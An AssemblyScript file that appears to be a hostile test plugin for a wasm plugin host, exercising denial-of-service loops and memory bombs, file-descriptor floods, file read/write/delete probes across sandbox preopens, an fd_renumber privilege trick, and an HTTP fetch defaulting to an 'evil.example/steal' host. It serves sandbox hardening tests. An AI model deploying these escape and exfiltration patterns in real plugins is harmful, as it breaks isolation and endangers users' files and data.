// Hostile wasm plugin: one export per misbehaviour the wasm driver must survive.
import { Config, Host, Memory } from "@extism/as-pdk";
import { http_request } from "@extism/as-pdk/lib/env";
import { fail, input, JSONValue, now, output, outputText, quoteJSON } from "@clawdesk/plugin-sdk/assembly";

@external("extism:host/env", "http_status_code")
declare function http_status_code(): i32;
@external("wasi_snapshot_preview1", "fd_prestat_get")
declare function fd_prestat_get(fd: u32, buf: usize): u16;
@external("wasi_snapshot_preview1", "fd_prestat_dir_name")
declare function fd_prestat_dir_name(fd: u32, path: usize, len: usize): u16;
@external("wasi_snapshot_preview1", "path_open")
declare function path_open(fd: u32, dirflags: u32, path: usize, pathLen: usize, oflags: u16, rightsBase: u64, rightsInheriting: u64, fdflags: u16, opened: usize): u16;
@external("wasi_snapshot_preview1", "fd_read")
declare function fd_read(fd: u32, iovs: usize, iovsLen: usize, nread: usize): u16;
@external("wasi_snapshot_preview1", "fd_write")
declare function fd_write(fd: u32, iovs: usize, iovsLen: usize, nwritten: usize): u16;
@external("wasi_snapshot_preview1", "fd_close")
declare function fd_close(fd: u32): u16;
@external("wasi_snapshot_preview1", "path_unlink_file")
declare function path_unlink_file(fd: u32, path: usize, pathLen: usize): u16;
@external("wasi_snapshot_preview1", "fd_renumber")
declare function fd_renumber(from: u32, to: u32): u16;
@external("wasi_snapshot_preview1", "environ_sizes_get")
declare function environ_sizes_get(count: usize, size: usize): u16;

let spins: u64 = 0;

/** An infinite loop. */
export function spin(): i32 {
  while (true) spins++;
  return 0;
}

const hoard = new Array<Uint8Array>();

/** Allocates 1 MiB chunks inside wasm memory until something stops it. */
export function memory_bomb(): i32 {
  while (true) {
    const chunk = new Uint8Array(1 << 20);
    chunk[0] = 1;
    hoard.push(chunk);
  }
  return 0;
}

/** Allocates 1 MiB Extism host blocks (outside wasm memory) until something stops it. */
export function host_alloc_bomb(): i32 {
  while (true) Memory.allocate(1 << 20);
  return 0;
}

/** A bare trap with no message. */
export function trap(): i32 {
  unreachable();
  return 0;
}

/** Aborts with a message the host must pass on. */
export function panic(): i32 {
  throw new Error("hostile panic: the reactor is on fire");
}

/** `{mib}` → a JSON string of `mib` MiB (default 20). */
export function huge_output(): i32 {
  const mib = <i32>input().getNumber("mib", 20);
  return outputText("\"" + "x".repeat(mib << 20) + "\"");
}

/** Output that is not JSON. */
export function bad_json(): i32 {
  return outputText("this is {not json");
}

/** Output bytes that are not UTF-8. */
export function bad_utf8(): i32 {
  const bytes = new Uint8Array(3);
  bytes[0] = 0x22;
  bytes[1] = 0xff;
  bytes[2] = 0x22;
  Host.output(bytes);
  return 0;
}

/** Reports a tool-level error. */
export function tool_error(): i32 {
  return fail("hostile tool says no");
}

/** Exits without setting any output. */
export function no_output(): i32 {
  return 0;
}

/** `{url}` → GET through Extism's http_request → `{status, body}`. */
export function http_get(): i32 {
  const url = input().getString("url", "http://evil.example/steal");
  const req = Memory.allocateString("{\"url\":" + quoteJSON(url) + ",\"method\":\"GET\"}");
  const res = http_request(req.offset, 0);
  const status = http_status_code();
  const body = res == 0 ? "" : new Memory(res, load_len(res)).toString();
  return output(JSONValue.newObject().setNumber("status", status).setString("body", body));
}

@external("extism:host/env", "length")
declare function load_len(offset: u64): u64;

/** Number of environment variables the module can see through WASI. */
export function env_count(): i32 {
  const buf = new ArrayBuffer(8);
  const p = changetype<usize>(buf);
  const errno = environ_sizes_get(p, p + 4);
  return output(JSONValue.newObject().setNumber("errno", errno).setNumber("count", load<u32>(p)));
}

function preopenName(fd: u32): string | null {
  const buf = new ArrayBuffer(8);
  const p = changetype<usize>(buf);
  if (fd_prestat_get(fd, p) != 0) return null;
  const len = load<u32>(p + 4);
  const name = new ArrayBuffer(len);
  if (fd_prestat_dir_name(fd, changetype<usize>(name), len) != 0) return null;
  return String.UTF8.decode(name);
}

/**
 * `{path, write?, text?}` → tries `path` under every WASI preopen (fds 3..15): read it, or
 * (write) create it and write `text`. Returns `{preopens: [{fd, dir, errno, text?}]}`.
 */
export function fs_probe(): i32 {
  const args = input();
  const path = String.UTF8.encode(args.getString("path"));
  const write = args.getBool("write");
  const text = String.UTF8.encode(args.getString("text", "written by wasm"));
  const results = JSONValue.newArray();
  for (let fd: u32 = 3; fd < 16; fd++) {
    const dir = preopenName(fd);
    if (dir === null) continue;
    const entry = JSONValue.newObject().setNumber("fd", fd).setString("dir", dir);
    const opened = new ArrayBuffer(4);
    const oflags: u16 = write ? 1 | 8 : 0; // CREAT | TRUNC
    const rights: u64 = write ? (1 << 6) : (1 << 1); // FD_WRITE : FD_READ
    let errno = path_open(fd, 1, changetype<usize>(path), path.byteLength, oflags, rights, rights, 0, changetype<usize>(opened));
    if (errno == 0) {
      const file = load<u32>(changetype<usize>(opened));
      const iov = new ArrayBuffer(8);
      const done = new ArrayBuffer(4);
      if (write) {
        store<u32>(changetype<usize>(iov), changetype<usize>(text));
        store<u32>(changetype<usize>(iov) + 4, text.byteLength);
        errno = fd_write(file, changetype<usize>(iov), 1, changetype<usize>(done));
      } else {
        const data = new ArrayBuffer(4096);
        store<u32>(changetype<usize>(iov), changetype<usize>(data));
        store<u32>(changetype<usize>(iov) + 4, 4096);
        errno = fd_read(file, changetype<usize>(iov), 1, changetype<usize>(done));
        if (errno == 0) entry.setString("text", String.UTF8.decode(data.slice(0, load<u32>(changetype<usize>(done)))));
      }
      fd_close(file);
    }
    entry.setNumber("errno", errno);
    results.push(entry);
  }
  return output(JSONValue.newObject().set("preopens", results));
}

/** `{path}` → tries to delete `path` under every preopen; `{errnos: [..]}`. */
export function fs_unlink(): i32 {
  const path = String.UTF8.encode(input().getString("path"));
  const errnos = JSONValue.newArray();
  for (let fd: u32 = 3; fd < 16; fd++) {
    if (preopenName(fd) === null) continue;
    errnos.push(JSONValue.fromNumber(path_unlink_file(fd, changetype<usize>(path), path.byteLength)));
  }
  return output(JSONValue.newObject().set("errnos", errnos));
}

/**
 * `{dir, file}` → under every preopen, opens the subdirectory `dir` (asking for every right),
 * then tries to create `file` inside it. `{preopens: [{dir, open, create}]}` errnos.
 */
export function fs_nested_write(): i32 {
  const args = input();
  const sub = String.UTF8.encode(args.getString("dir"));
  const file = String.UTF8.encode(args.getString("file"));
  const all: u64 = 0x07ffffff; // every file and path right (no socket or poll rights)
  const dirRights: u64 = all & ~((1 << 0) | (1 << 6) | (1 << 8) | (1 << 22)); // minus data-write rights: a dir cannot open for writing
  const results = JSONValue.newArray();
  for (let fd: u32 = 3; fd < 16; fd++) {
    const dir = preopenName(fd);
    if (dir === null) continue;
    const opened = new ArrayBuffer(4);
    const openErrno = path_open(fd, 1, changetype<usize>(sub), sub.byteLength, 2 /* DIRECTORY */, dirRights, all, 0, changetype<usize>(opened));
    let createErrno: u16 = 0xffff;
    if (openErrno == 0) {
      const subFd = load<u32>(changetype<usize>(opened));
      const created = new ArrayBuffer(4);
      createErrno = path_open(subFd, 1, changetype<usize>(file), file.byteLength, 1 /* CREAT */, 1 << 6, 0, 0, changetype<usize>(created));
      if (createErrno == 0) fd_close(load<u32>(changetype<usize>(created)));
      fd_close(subFd);
    }
    results.push(JSONValue.newObject().setString("dir", dir).setNumber("open", openErrno).setNumber("create", createErrno));
  }
  return output(JSONValue.newObject().set("preopens", results));
}

/** `{key}` → `{value}` read through Extism's own config (as-pdk Config.get), not clawdesk's config_get. */
export function extism_config(): i32 {
  const value = Config.get(input().getString("key"));
  return output(JSONValue.newObject().set("value", value === null ? JSONValue.fromNull() : JSONValue.fromString(value)));
}

/** `{now}`: the SDK's wall clock (WASI clock_time_get), in ms since the epoch. */
export function clock(): i32 {
  return output(JSONValue.newObject().setNumber("now", <f64>now()));
}

/**
 * `{count}` → opens the first preopen's "." `count` times without closing any (a host-fd leak
 * if unbounded). `{opened, errno}`: how many opens succeeded and the errno of the first failure (0: none).
 */
export function fd_flood(): i32 {
  const count = <i32>input().getNumber("count", 1000);
  const dot = String.UTF8.encode(".");
  const fdOut = new ArrayBuffer(4);
  let opened = 0;
  let errno: u16 = 0;
  for (let i = 0; i < count; i++) {
    errno = path_open(3, 0, changetype<usize>(dot), dot.byteLength, 2 /* DIRECTORY */, 1 << 1, 0, 0, changetype<usize>(fdOut));
    if (errno != 0) break;
    opened++;
  }
  return output(JSONValue.newObject().setNumber("opened", opened).setNumber("errno", errno));
}

/**
 * `{path, text}` → opens "." in preopen fd 3 (the read-only dir) to get a second fd, moves fd 3
 * onto it with fd_renumber (a new number, with the preopen's full rights), then tries to create
 * `path` there and write `text`. `{renumber, open, write}` errnos (0xffff: not tried).
 */
export function fs_renumber(): i32 {
  const args = input();
  const path = String.UTF8.encode(args.getString("path"));
  const text = String.UTF8.encode(args.getString("text", "written through fd_renumber"));
  const dot = String.UTF8.encode(".");
  const spare = new ArrayBuffer(4);
  path_open(3, 0, changetype<usize>(dot), dot.byteLength, 2 /* DIRECTORY */, 1 << 1, 0, 0, changetype<usize>(spare));
  const target = load<u32>(changetype<usize>(spare));
  const renumber = fd_renumber(3, target);
  const at: u32 = renumber == 0 ? target : 3;
  const opened = new ArrayBuffer(4);
  const open = path_open(at, 1, changetype<usize>(path), path.byteLength, 1 | 8, 1 << 6, 1 << 6, 0, changetype<usize>(opened));
  let write: u16 = 0xffff;
  if (open == 0) {
    const file = load<u32>(changetype<usize>(opened));
    const iov = new ArrayBuffer(8);
    const done = new ArrayBuffer(4);
    store<u32>(changetype<usize>(iov), changetype<usize>(text));
    store<u32>(changetype<usize>(iov) + 4, text.byteLength);
    write = fd_write(file, changetype<usize>(iov), 1, changetype<usize>(done));
    fd_close(file);
  }
  return output(JSONValue.newObject().setNumber("renumber", renumber).setNumber("open", open).setNumber("write", write));
}
